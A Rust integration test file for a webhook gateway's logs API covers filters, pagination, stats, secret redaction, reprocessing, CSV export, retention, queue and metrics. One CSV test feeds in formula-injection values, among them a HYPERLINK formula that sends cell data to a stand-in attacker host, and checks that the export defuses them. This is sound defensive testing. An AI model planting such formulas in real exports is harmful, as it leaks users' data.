//! Logs over real traffic: filters alone and combined, keyset pagination
//! while rows arrive, stats that add up, redaction in every answer, reprocess
//! after a mapping is fixed, CSV export, retention with the manual clock,
//! the queue panel, and the operations endpoints.

use reqwest::Method;
use serde_json::{json, Value};

use crate::helpers::fixture::load;
use crate::helpers::receiver::{Receiver, Reply};
use crate::helpers::{urlencode, ClockExt, TestApp};

const HOTTOK: &str = "test-hottok-Xk3p9QmZ2v8T";

async fn hotmart_shop() -> (TestApp, String) {
    hotmart_shop_named("Hotmart").await
}

/// A Hotmart key and an inbound URL called `name` granting one product.
async fn hotmart_shop_named(name: &str) -> (TestApp, String) {
    let app = TestApp::spawn().await;
    app.create_key("hotmart", HOTTOK).await;
    let product = app.create_product("Curso", json!([])).await;
    let path = app
        .create_inbound_url(json!({"name": name, "gateway": "hotmart", "product_ids": [product]}))
        .await;
    (app, path)
}

fn sale(tx: &str, email: &str) -> crate::helpers::Fixture {
    load("hotmart", "purchase_approved").edit(|v| {
        v["data"]["purchase"]["transaction"] = json!(tx);
        v["data"]["buyer"]["email"] = json!(email);
    })
}

/// The body of `GET /logs.csv{query}`.
async fn csv_text(app: &TestApp, query: &str) -> String {
    app.client
        .get(format!("{}/api/v1/logs.csv{query}", app.base))
        .bearer_auth(crate::helpers::ADMIN_TOKEN)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

fn ids(page: &Value) -> Vec<String> {
    page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap().to_string())
        .collect()
}

#[tokio::test]
async fn each_filter_alone_and_combined_finds_exactly_its_entries() {
    let (app, path) = hotmart_shop().await;
    let receiver = Receiver::spawn().await;
    app.create_endpoint(&receiver.url, json!({"event_types": ["access.granted"]}))
        .await;
    app.post_fixture(&path, &sale("T1", "ana@example.com"))
        .await;
    app.post_fixture(
        &path,
        &sale("T2", "bia@example.com").set_header("X-HOTMART-HOTTOK", "wrong-token-guess"),
    )
    .await;
    let t1 = app.clock.now_utc() + chrono::Duration::minutes(10);
    app.clock.advance(chrono::Duration::minutes(20));
    app.post_fixture(&path, &sale("T3", "Ana@Example.com"))
        .await;
    receiver.wait_for(2).await;
    app.wait_until("/logs?direction=out", |p| {
        p["items"].as_array().unwrap().len() == 2
    })
    .await;

    let all = app.get("/logs").await;
    let count = |q: &str| {
        let app = &app;
        let q = q.to_string();
        async move {
            app.get(&format!("/logs?{q}")).await["items"]
                .as_array()
                .unwrap()
                .len()
        }
    };
    assert_eq!(all["items"].as_array().unwrap().len(), 5);
    assert_eq!(count("direction=in").await, 3);
    assert_eq!(count("direction=out").await, 2);
    assert_eq!(count("status=failure").await, 1);
    assert_eq!(count("status=success").await, 4);
    assert_eq!(count("event_type=purchase.approved").await, 2);
    assert_eq!(count("event_type=access.granted").await, 2);
    assert_eq!(
        count(&format!("email={}", urlencode(" ANA@example.com"))).await,
        4,
        "two calls and their two deliveries"
    );
    assert_eq!(
        count(&format!("from={}", urlencode(&t1.to_rfc3339()))).await,
        2,
        "the last call and its delivery"
    );
    assert_eq!(
        count(&format!("to={}", urlencode(&t1.to_rfc3339()))).await,
        3,
        "the first two calls and the first delivery"
    );
    assert_eq!(
        count("direction=in&status=success&email=ana@example.com").await,
        2
    );
    assert_eq!(count("direction=out&email=bia@example.com").await, 0);
    let at = |i: &Value| i["at"].as_str().unwrap().to_string();
    let items = all["items"].as_array().unwrap();
    assert!(
        items.windows(2).all(|w| at(&w[0]) >= at(&w[1])),
        "newest first"
    );
    let failure = app.get("/logs?status=failure").await;
    let row = &failure["items"][0];
    assert_eq!(row["http_status"], 401);
    assert_eq!(row["integration"]["kind"], "inbound_url");
    assert_eq!(row["direction"], "in");
    assert!(row["duration_ms"].as_i64().unwrap() >= 0);

    for bad in [
        "direction=up",
        "status=ok",
        "from=yesterday",
        "to=2026-13-01",
        "limit=0",
        "limit=501",
        "cursor=xyz",
    ] {
        let err = app
            .api(Method::GET, &format!("/logs?{bad}"), None, 422)
            .await;
        assert_eq!(err["error"]["code"], "validation_failed", "{bad}");
    }
}

#[tokio::test]
async fn pagination_neither_skips_nor_repeats_while_new_rows_arrive() {
    let (app, path) = hotmart_shop().await;
    for i in 0..25 {
        app.clock.advance(chrono::Duration::seconds(1));
        app.post_fixture(&path, &sale(&format!("P{i}"), &format!("p{i}@example.com")))
            .await;
    }
    let expected = ids(&app.get("/logs?limit=500").await);

    let mut seen = Vec::new();
    let mut page = app.get("/logs?limit=10").await;
    loop {
        seen.extend(ids(&page));
        // New sales keep arriving between pages.
        app.clock.advance(chrono::Duration::seconds(1));
        app.post_fixture(&path, &sale(&format!("N{}", seen.len()), "new@example.com"))
            .await;
        let Some(cursor) = page["next_cursor"].as_str() else {
            break;
        };
        page = app.get(&format!("/logs?limit=10&cursor={cursor}")).await;
    }

    assert_eq!(seen, expected);
}

#[tokio::test]
async fn stats_add_up_per_local_day() {
    let (app, path) = hotmart_shop().await;
    // 2025-01-15 12:31 UTC is 09:31 in São Paulo.
    app.post_fixture(&path, &sale("S1", "a@example.com")).await;
    app.post_raw(&path, Some("application/json"), &[], b"{".to_vec())
        .await;
    app.clock.advance(chrono::Duration::days(2));
    app.post_fixture(&path, &sale("S2", "b@example.com")).await;
    // 02:00 UTC the next day is still the previous day in São Paulo.
    app.clock
        .advance(chrono::Duration::hours(13) + chrono::Duration::minutes(29));
    app.post_fixture(&path, &sale("S3", "c@example.com")).await;

    let s = app.get("/logs/stats?days=7").await;

    let days = s["per_day"].as_array().unwrap();
    assert_eq!(days.len(), 7);
    assert_eq!(days.last().unwrap()["date"], "2025-01-17");
    assert_eq!(days[0]["date"], "2025-01-11");
    let sum = |k: &str| days.iter().map(|d| d[k].as_i64().unwrap()).sum::<i64>();
    assert_eq!(s["total"], 4);
    assert_eq!(
        s["success"].as_i64().unwrap() + s["failure"].as_i64().unwrap(),
        4
    );
    assert_eq!(sum("total"), 4);
    assert_eq!(sum("success"), s["success"].as_i64().unwrap());
    assert_eq!(days[4]["total"], 2, "2025-01-15: one sale, one bad body");
    assert_eq!(days[4]["failure"], 1);
    assert_eq!(
        days[6]["total"], 2,
        "both later sales fall on 2025-01-17 local time"
    );
    assert!(s["avg_ms"].as_f64().unwrap() >= 0.0);
    assert_eq!(
        app.get("/logs/stats").await["per_day"]
            .as_array()
            .unwrap()
            .len(),
        7
    );
    assert_eq!(
        app.get("/logs/stats?days=90").await["per_day"]
            .as_array()
            .unwrap()
            .len(),
        90
    );
    app.api(Method::GET, "/logs/stats?days=0", None, 422).await;
    app.api(Method::GET, "/logs/stats?days=91", None, 422).await;
}

#[tokio::test]
async fn no_secret_appears_in_any_log_answer() {
    let app = TestApp::spawn().await;
    let (kiwify, origin, hub) = (
        "kiwify-token-for-redaction",
        "eduzz-origin-for-redaction",
        "eduzz-hub-secret-redaction",
    );
    app.create_key("hotmart", HOTTOK).await;
    app.create_key("kiwify", kiwify).await;
    app.create_key("eduzz", origin).await;
    app.create_key("eduzz", hub).await;
    let global = format!("/in/{}", app.public_id().await);
    app.post_fixture(&global, &load("hotmart", "purchase_approved"))
        .await;
    app.post_fixture(&global, &load("hotmart_v1", "approved"))
        .await;
    let signed = load("kiwify", "order_approved").sign_kiwify(kiwify);
    let signature = signed.query[0].1.clone();
    app.post_fixture(&global, &signed).await;
    app.post_fixture(
        &global,
        &load("eduzz_legacy", "invoice_paid").edit_form(&[("origin", origin)]),
    )
    .await;
    let hub_fixture = load("eduzz", "invoice_paid").sign_eduzz(hub);
    let hub_signature = hub_fixture
        .headers
        .iter()
        .find(|(k, _)| k == "x-signature")
        .unwrap()
        .1
        .clone();
    app.post_fixture(&global, &hub_fixture).await;
    app.post_raw(
        &global,
        Some("application/json"),
        &[],
        format!("{{\"hottok\":\"{HOTTOK}\"").into_bytes(),
    )
    .await;

    let mut answers = vec![app.get("/logs?limit=500").await.to_string()];
    for id in ids(&app.get("/logs?limit=500").await) {
        answers.push(app.get(&format!("/logs/{id}")).await.to_string());
    }
    answers.push(csv_text(&app, "").await);

    for text in &answers {
        for secret in [
            HOTTOK,
            kiwify,
            origin,
            hub,
            signature.as_str(),
            hub_signature.as_str(),
            "04a4bc373f",
        ] {
            assert!(!text.contains(secret), "{secret} leaked in {text}");
        }
    }
    let detail = app
        .get(&format!(
            "/logs/{}",
            ids(&app.get("/logs?limit=500").await).last().unwrap()
        ))
        .await;
    assert_eq!(
        detail["detail"]["request"]["headers"]["x-hotmart-hottok"],
        "[redacted]"
    );
    assert_eq!(detail["detail"]["verification"]["result"], "verified");
    assert_eq!(
        detail["detail"]["normalized"]["transaction_id"],
        "HP1234567890123"
    );
    assert_eq!(
        detail["detail"]["outcome"], "ignored",
        "no product is mapped on the global URL"
    );
}

#[tokio::test]
async fn an_outbound_entry_shows_its_event_endpoint_and_every_attempt() {
    let app = TestApp::spawn().await;
    let receiver = Receiver::spawn().await;
    receiver.reply([Reply::status(500)]);
    let (endpoint, _) = app.create_endpoint(&receiver.url, json!({})).await;
    let sent = app
        .api(
            Method::POST,
            &format!("/endpoints/{endpoint}/test"),
            None,
            202,
        )
        .await;
    let delivery = sent["delivery_id"].as_str().unwrap();
    app.wait_until(&format!("/deliveries/{delivery}"), |d| d["attempts"] == 1)
        .await;
    app.clock.advance(chrono::Duration::seconds(1));
    app.wait_until(&format!("/deliveries/{delivery}"), |d| {
        d["status"] == "success"
    })
    .await;

    let row = &app.get("/logs?direction=out").await["items"][0];
    let detail = app
        .get(&format!("/logs/{}", row["id"].as_str().unwrap()))
        .await;

    assert_eq!(row["status"], "success");
    assert_eq!(row["attempts"], 2);
    assert_eq!(row["integration"]["kind"], "endpoint");
    assert_eq!(detail["detail"]["event"]["type"], "webhook.test");
    assert_eq!(detail["detail"]["endpoint"]["id"], endpoint.as_str());
    let attempts = detail["detail"]["attempts"].as_array().unwrap();
    assert_eq!(
        attempts
            .iter()
            .map(|a| a["http_status"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        vec![500, 200]
    );
}

#[tokio::test]
async fn reprocess_after_a_mapping_is_fixed_grants_once() {
    let app = TestApp::spawn().await;
    app.create_key("hotmart", HOTTOK).await;
    let global = format!("/in/{}?gateway=hotmart", app.public_id().await);
    let (_, first) = app
        .post_fixture(&global, &load("hotmart", "purchase_approved"))
        .await;
    assert_eq!(first["status"], "ignored");
    let first_id = first["log_id"].as_str().unwrap();
    app.api(
        Method::POST,
        &format!("/logs/{first_id}/reprocess"),
        None,
        200,
    )
    .await;
    assert!(
        app.student("maria.teste@example.com").await.is_none(),
        "still unmapped"
    );

    let product = app
        .create_product("Excel", json!([{"gateway": "hotmart", "id": "3456789"}]))
        .await;
    let again = app
        .api(
            Method::POST,
            &format!("/logs/{first_id}/reprocess"),
            None,
            200,
        )
        .await;
    let twice = app
        .api(
            Method::POST,
            &format!("/logs/{first_id}/reprocess"),
            None,
            200,
        )
        .await;

    assert_eq!(again["status"], "processed");
    assert_eq!(again["reprocess_of"], first_id);
    assert_eq!(twice["status"], "duplicate");
    assert_eq!(app.access("maria.teste@example.com").await, vec![product]);
    let linked = app
        .get(&format!("/logs/{}", again["log_id"].as_str().unwrap()))
        .await;
    assert_eq!(linked["reprocess_of"], first_id);
    assert_eq!(linked["status"], "success");

    let (_, rejected) = app
        .post_fixture(
            &global,
            &load("hotmart", "purchase_refunded").set_header("X-HOTMART-HOTTOK", "nope-not-it"),
        )
        .await;
    let failed = app.get("/logs?status=failure&limit=1").await;
    let id = failed["items"][0]["id"].as_str().unwrap();
    assert!(rejected.get("log_id").is_none());
    let err = app
        .api(Method::POST, &format!("/logs/{id}/reprocess"), None, 422)
        .await;
    assert!(err["error"]["message"]
        .as_str()
        .unwrap()
        .contains("authentic"));
}

#[tokio::test]
async fn the_csv_export_streams_the_filtered_entries() {
    let (app, path) = hotmart_shop().await;
    for i in 0..1205 {
        if i % 400 == 0 {
            app.clock.advance(chrono::Duration::seconds(1));
        }
        let body = if i % 5 == 0 {
            b"{".to_vec()
        } else {
            b"[]".to_vec()
        };
        app.post_raw(&path, Some("application/json"), &[], body)
            .await;
    }
    app.post_fixture(&path, &sale("C1", "csv@example.com"))
        .await;

    let resp = app
        .client
        .get(format!("{}/api/v1/logs.csv?status=failure", app.base))
        .bearer_auth(crate::helpers::ADMIN_TOKEN)
        .send()
        .await
        .unwrap();
    assert!(resp.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let text = resp.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();

    assert_eq!(reader.headers().unwrap().get(0), Some("id"));
    assert_eq!(rows.len(), 1205);
    assert!(rows.iter().all(|r| r.get(6) == Some("failure")));
    let mut distinct: Vec<&str> = rows.iter().map(|r| r.get(0).unwrap()).collect();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), 1205);
    let one = csv_text(&app, "?email=csv@example.com").await;
    assert_eq!(one.lines().count(), 2);
    app.api(Method::GET, "/logs.csv?status=nope", None, 422)
        .await;
}

#[tokio::test]
async fn the_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas() {
    let (app, path) = hotmart_shop_named("@SUM(1+1)*cmd").await;
    for (tx, email) in [
        ("F1", "=1+2@example.com"),
        ("F2", "+3@example.com"),
        ("F3", "-4@example.com"),
    ] {
        app.post_fixture(&path, &sale(tx, email)).await;
    }
    let hyperlink = r#"=HYPERLINK("https://evil.example/?leak="&A1,"ok")"#;
    app.post_fixture(
        &path,
        &load("hotmart", "purchase_approved").edit(|v| v["event"] = json!(hyperlink)),
    )
    .await;

    let text = csv_text(&app, "").await;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let column = |name: &str| -> Vec<String> {
        let i = headers.iter().position(|h| h == name).unwrap();
        rows.iter().map(|r| r[i].to_string()).collect()
    };

    assert_eq!(rows.len(), 4);
    let mut emails = column("email");
    emails.sort();
    assert_eq!(
        emails,
        [
            "",
            "'+3@example.com",
            "'-4@example.com",
            "'=1+2@example.com"
        ]
    );
    assert!(column("event_type").contains(&format!("'{hyperlink}")));
    assert!(column("integration_name")
        .iter()
        .all(|n| n == "'@SUM(1+1)*cmd"));
    let risky = |c: &str| c.starts_with(['=', '+', '-', '@', '\t', '\r']);
    assert!(rows.iter().flatten().all(|cell| !risky(cell)), "{text}");
}

#[tokio::test]
async fn retention_purges_old_entries_but_keeps_the_ledger_and_dedupe_keys() {
    let (app, path) = hotmart_shop().await;
    let receiver = Receiver::spawn().await;
    app.create_endpoint(&receiver.url, json!({})).await;
    let (_, old) = app
        .post_fixture(&path, &sale("OLD-1", "old@example.com"))
        .await;
    receiver.wait_for(3).await;
    app.wait_until("/queue", |q| q["done"] == 3).await;
    app.clock.advance(chrono::Duration::days(61));
    let (_, new) = app
        .post_fixture(&path, &sale("NEW-1", "new@example.com"))
        .await;
    receiver.wait_for(6).await;
    app.wait_until("/queue", |q| q["done"] == 6).await;

    let store = app.store().await;
    let purged = gancho::logs::retention::purge(store.as_ref(), app.clock.now_utc(), 60)
        .await
        .unwrap();

    assert_eq!(
        purged.log_entries,
        1 + 3,
        "the old call and its three deliveries"
    );
    assert!(purged.deliveries_and_events >= 6);
    app.api(
        Method::GET,
        &format!("/logs/{}", old["log_id"].as_str().unwrap()),
        None,
        404,
    )
    .await;
    app.get(&format!("/logs/{}", new["log_id"].as_str().unwrap()))
        .await;
    assert_eq!(
        app.access("old@example.com").await.len(),
        1,
        "the ledger is kept"
    );
    let (_, replay) = app
        .post_fixture(&path, &sale("OLD-1", "old@example.com"))
        .await;
    assert_eq!(replay["status"], "duplicate", "dedupe keys are kept");
    assert_eq!(app.get("/queue").await["done"], 3);
    assert_eq!(
        app.get("/logs/stats?days=90").await["total"]
            .as_i64()
            .unwrap(),
        1 + 3 + 1 + 3 + 1,
        "chart counts outlive the entries"
    );
}

#[tokio::test]
async fn the_queue_panel_counts_each_state() {
    let app = TestApp::spawn().await;
    let (ok, failing, off) = (
        Receiver::spawn().await,
        Receiver::spawn().await,
        Receiver::spawn().await,
    );
    failing.reply((0..10).map(|_| Reply::status(500)));
    let (ok_ep, _) = app.create_endpoint(&ok.url, json!({})).await;
    let (bad_ep, _) = app.create_endpoint(&failing.url, json!({})).await;
    let (off_ep, _) = app.create_endpoint(&off.url, json!({})).await;
    app.api(
        Method::PATCH,
        &format!("/endpoints/{off_ep}"),
        Some(json!({"enabled": false})),
        200,
    )
    .await;
    for ep in [&ok_ep, &bad_ep, &off_ep] {
        app.api(Method::POST, &format!("/endpoints/{ep}/test"), None, 202)
            .await;
    }
    // The failing one's first attempt is over (it may come after the ok one's).
    app.wait_until(&format!("/endpoints/{bad_ep}/deliveries"), |d| {
        d["items"][0]["attempts"] == 1 && d["items"][0]["status"] == "pending"
    })
    .await;
    let q = app
        .wait_until("/queue", |q| q["done"] == 1 && q["waiting"] == 2)
        .await;
    assert_eq!(
        (
            q["processing"].as_i64(),
            q["late"].as_i64(),
            q["failed"].as_i64()
        ),
        (Some(0), Some(0), Some(0))
    );

    app.clock.advance(chrono::Duration::minutes(2));
    let q = app
        .wait_until("/queue", |q| q["late"] == 1 && q["waiting"] == 1)
        .await;
    assert_eq!(
        q["done"], 1,
        "the disabled one is late; the failing one waits for its retry"
    );
    app.clock.advance(chrono::Duration::seconds(3));
    let q = app.wait_until("/queue", |q| q["failed"] == 1).await;
    assert_eq!((q["done"].as_i64(), q["late"].as_i64()), (Some(1), Some(1)));
}

#[tokio::test]
async fn operations_endpoints_report_health_readiness_and_metrics() {
    let (app, path) = hotmart_shop().await;
    let receiver = Receiver::spawn().await;
    app.create_endpoint(&receiver.url, json!({})).await;
    app.post_fixture(&path, &sale("M1", "m@example.com")).await;
    app.post_fixture(&path, &sale("M1", "m@example.com")).await;
    app.post_fixture(
        &path,
        &sale("M2", "m@example.com").set_header("X-HOTMART-HOTTOK", "wrong-token-guess"),
    )
    .await;
    app.post_fixture(
        &path,
        &load("hotmart", "purchase_refunded")
            .edit(|v| v["data"]["purchase"]["transaction"] = json!("M1")),
    )
    .await;
    receiver.wait_for(5).await;
    app.wait_until("/queue", |q| q["done"] == 5).await;

    let get = |p: &str| app.client.get(format!("{}{p}", app.base)).send();
    let health = get("/healthz").await.unwrap();
    let ready = get("/readyz").await.unwrap();
    let metrics = get("/metrics").await.unwrap().text().await.unwrap();

    assert_eq!(health.status().as_u16(), 200);
    assert_eq!(ready.status().as_u16(), 200);
    for line in [
        r#"gancho_inbound_requests_total{gateway="hotmart",outcome="processed"} 2"#,
        r#"gancho_inbound_requests_total{gateway="hotmart",outcome="duplicate"} 1"#,
        r#"gancho_inbound_requests_total{gateway="hotmart",outcome="unauthorized"} 1"#,
        r#"gancho_delivery_attempts_total{outcome="success"} 5"#,
        r#"gancho_queue_depth{state="done"} 5"#,
        "gancho_ledger_grants_total 1",
        "gancho_ledger_revocations_total 1",
        "gancho_delivery_latency_seconds_count 5",
    ] {
        assert!(metrics.contains(line), "missing {line} in\n{metrics}");
    }
}
